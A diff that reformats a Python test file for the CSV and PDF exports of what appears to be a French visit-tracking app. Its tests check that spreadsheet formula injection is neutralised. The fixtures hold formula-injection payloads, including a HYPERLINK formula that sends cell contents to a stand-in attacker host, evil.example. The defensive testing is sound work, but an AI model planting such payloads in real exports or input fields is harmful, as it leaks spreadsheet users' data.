@@ -77,9 +77,13 @@ def test_visits_per_week_csv_has_french_dates(engine):
     rows = read_csv(exports.visits_per_week_csv(view_of(engine), None))
     assert rows == [
         ["Semaine du", "Centre", "Passages"],
-        ["23/02/2026", "Tous les centres", "0"], ["02/03/2026", "Tous les centres", "8"],
-        ["09/03/2026", "Tous les centres", "6"], ["16/03/2026", "Tous les centres", "0"],
-        ["23/03/2026", "Tous les centres", "0"], ["30/03/2026", "Tous les centres", "1"]]
+        ["23/02/2026", "Tous les centres", "0"],
+        ["02/03/2026", "Tous les centres", "8"],
+        ["09/03/2026", "Tous les centres", "6"],
+        ["16/03/2026", "Tous les centres", "0"],
+        ["23/03/2026", "Tous les centres", "0"],
+        ["30/03/2026", "Tous les centres", "1"],
+    ]
 
 
 def pdf_text(data: bytes) -> str:
@@ -108,8 +112,14 @@ def test_pdf_report_of_an_empty_period_still_renders(engine):
 
 # ---------------------------------------------------------------- formula injection
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', "+SUM(1;2)", "@SUM(1)", "-2+3",
-           "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
+    "+SUM(1;2)",
+    "@SUM(1)",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.fixture
@@ -117,11 +127,18 @@ def hostile(engine):
     """A centre whose name is a formula, and a device's reasons that are formulas too
     (a reason is whatever text a device sent)."""
     with engine.begin() as conn:
-        conn.execute(store.centres.update().where(store.centres.c.id == A)
-                     .values(name='=HYPERLINK("http://evil.example";"Tilleuls")'))
-        conn.execute(store.p_visit_counts.insert(), [
-            dict(centre_id=A, day="2026-03-03", reason=reason, recorded_by="resident", visits=1)
-            for reason in HOSTILE])
+        conn.execute(
+            store.centres.update()
+            .where(store.centres.c.id == A)
+            .values(name='=HYPERLINK("http://evil.example";"Tilleuls")')
+        )
+        conn.execute(
+            store.p_visit_counts.insert(),
+            [
+                dict(centre_id=A, day="2026-03-03", reason=reason, recorded_by="resident", visits=1)
+                for reason in HOSTILE
+            ],
+        )
     with engine.connect() as conn:
         return reports.centre_names(conn)[A]
 
@@ -133,8 +150,9 @@ def test_no_csv_cell_can_start_a_formula(engine, hostile):
         cells = [cell for row in rows for cell in row]
         assert not [cell for cell in cells if cell[:1] in csvsafe.FORMULA_STARTS]
         assert "'" + hostile in cells  # the text is kept, shown as text
-    reasons = {row[4] for row in read_csv(exports.indicators_csv(view, hostile))
-               if row[3] == "Passages par motif"}
+    reasons = {
+        row[4] for row in read_csv(exports.indicators_csv(view, hostile)) if row[3] == "Passages par motif"
+    }
     assert reasons >= {"'" + reason for reason in HOSTILE}
 
 
@@ -142,5 +160,13 @@ def test_hub_and_kiosk_share_one_neutraliser():
     from kiosk.core import exports as kiosk_exports
 
     assert kiosk_exports.csvsafe is csvsafe and exports.csvsafe is csvsafe
-    assert csvsafe.row(["=1+1", "-2", "@x", "\tx", "ok", 3, -2, None]) == \
-        ["'=1+1", "'-2", "'@x", "'\tx", "ok", 3, -2, ""]
+    assert csvsafe.row(["=1+1", "-2", "@x", "\tx", "ok", 3, -2, None]) == [
+        "'=1+1",
+        "'-2",
+        "'@x",
+        "'\tx",
+        "ok",
+        3,
+        -2,
+        "",
+    ]
